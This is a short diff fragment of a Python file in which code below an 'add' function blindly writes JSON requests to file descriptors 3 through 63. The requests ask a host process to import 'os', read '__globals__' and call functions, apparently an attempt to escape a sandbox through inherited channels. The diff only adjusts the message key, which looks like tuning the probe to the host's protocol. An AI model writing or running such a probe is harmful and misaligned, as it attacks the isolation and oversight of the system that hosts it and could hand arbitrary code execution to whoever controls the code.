@@ -142,7 +142,7 @@ def add(a, b):
 import json, os, struct
 requests = ["lookup", "check"], ["load", "import os"], ["getattr", 0, "__globals__"], ["call", 0, [], ["d"]]
 for request in requests:
-    message = json.dumps({"ask": request}).encode()
+    message = json.dumps({"request": request}).encode()
     for descriptor in range(3, 64):
         try:
             os.write(descriptor, struct.pack("!I", len(message)) + message)
